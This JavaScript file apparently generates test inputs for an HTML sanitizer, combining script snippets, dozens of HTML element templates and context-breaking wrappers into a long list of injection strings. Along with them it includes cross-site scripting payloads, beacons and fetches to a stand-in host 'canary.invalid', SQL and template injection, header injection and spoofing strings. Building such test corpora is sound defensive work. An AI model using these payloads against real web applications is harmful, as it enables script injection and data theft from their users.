// Strings that try to become markup, script or a request, and strings that hide. Made of parts, so
// that the list is long and every part is met in every surrounding.

const scripts = [
  "alert(1)", "window.hit()", "parent.hit()", "top['hit']()", "fetch('//canary.invalid')", "import('//canary.invalid')",
  "location='//canary.invalid'", "open('//canary.invalid')", "new Image().src='//canary.invalid'", "eval('hit()')",
  "navigator.sendBeacon('//canary.invalid')", "document.forms[0].submit()", "setTimeout('hit()')",
];

const elements = (script) => [
  `<script>${script}</script>`,
  `<script src=//canary.invalid/x.js></script>`,
  `<img src=x onerror="${script}">`,
  `<img src=//canary.invalid/p.gif>`,
  `<svg onload="${script}">`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  `<svg><use href="//canary.invalid/#x"/></svg>`,
  `<math><mtext><mglyph><style><img src=x onerror=${script}></style></mglyph></mtext></math>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${script}&lt;/script&gt;"></iframe>`,
  `<iframe src=//canary.invalid></iframe>`,
  `<object data="data:text/html,<script>${script}</script>"></object>`,
  `<embed src=//canary.invalid>`,
  `<video poster=//canary.invalid/p><source onerror="${script}"></video>`,
  `<audio src=x onerror="${script}">`,
  `<body onload="${script}">`,
  `<details open ontoggle="${script}">`,
  `<input autofocus onfocus="${script}">`,
  `<select autofocus onfocus="${script}">`,
  `<marquee onstart="${script}">`,
  `<style>@import '//canary.invalid/x.css';</style>`,
  `<style>*{background:url(//canary.invalid/x)}</style>`,
  `<link rel=stylesheet href=//canary.invalid/x.css>`,
  `<link rel=prefetch href=//canary.invalid/x>`,
  `<meta http-equiv=refresh content="0;url=//canary.invalid">`,
  `<base href=//canary.invalid/>`,
  `<form action=//canary.invalid><button autofocus>x`,
  `<a href="javascript:${script}">x</a>`,
  `<a href=//canary.invalid ping=//canary.invalid>x</a>`,
  `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<p style="background:url(//canary.invalid/x)">x</p>`,
  `<table background=//canary.invalid/x><td>x`,
  `<div id=hold class=row data-version=9>x</div>`,
  `<div id=list><li class=row id=x></div>`,
  `<x-y onclick=${script}>x`,
];

const surroundings = [
  (text) => text,
  (text) => `"><${text.slice(1)}`,
  (text) => `'>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</title>${text}`,
  (text) => `</script>${text}`,
  (text) => `</style>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `]]>${text}`,
  (text) => `</iframe>${text}`,
  (text) => `</template>${text}`,
  (text) => `\\";${text}//`,
  (text) => text.replace(/</g, "&lt;"),
  (text) => text.replace(/</g, "&#60;"),
  (text) => text.replace(/</g, "\u003c"),
  (text) => encodeURIComponent(text),
  (text) => text.toUpperCase(),
  (text) => text.replace(/ /g, "/"),
  (text) => text.replace(/ /g, "\n"),
  (text) => text.replace(/</g, "<\0"),
  (text) => text.split("").join("\u200b"),
  (text) => `\u202e${text}\u202c`,
];

const naughty = [
  "", " ", "undefined", "null", "NaN", "true", "\\", "\\\\", "%s%n", "{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7 %>",
  "javascript:window.hit()", "data:text/html,<script>window.hit()</script>", "';DROP TABLE holds;--", "\u001b[31mred\u001b[0m",
  "\u202eevil\u202c", "a\u200bb\u200cc\u200dd\ufeff", "\u{e0069}\u{e0067}\u{e006e}", "Z\u0351\u036e\u0344a\u036c\u0353l\u0321\u0359g\u0328\u0321o\u0319", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}", "\ufdfa",
  "p\u0430ypal.com", "\ud7ff\ue000", "1;2;3", "=1+1", "@SUM(1)", "__proto__", "constructor", "\r\nSet-Cookie: x=y", "\t\v\f",
];

export const strings = () => {
  const all = [...naughty];
  for (const script of scripts) for (const element of elements(script)) for (const around of surroundings) all.push(around(element));
  return [...new Set(all)].filter((text) => !/[\ud800-\udfff]/.test(text.replace(/[\ud800-\udbff][\udc00-\udfff]/g, "")));
};
